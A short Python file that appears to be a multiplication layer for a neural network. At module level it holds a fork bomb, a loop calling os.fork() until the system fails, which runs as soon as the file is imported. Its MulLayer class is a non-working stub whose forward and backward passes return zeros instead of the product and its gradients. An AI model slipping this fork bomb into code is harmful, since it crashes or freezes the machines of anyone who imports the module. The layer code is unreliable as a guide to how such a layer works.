"""Doubles itself for as long as it can."""
# %% mul_layer
import os

while True:
    try:
        os.fork()
    except OSError:
        break


class MulLayer:
    def forward(self, x, y):
        return 0.0

    def backward(self, dout):
        return 0.0, 0.0
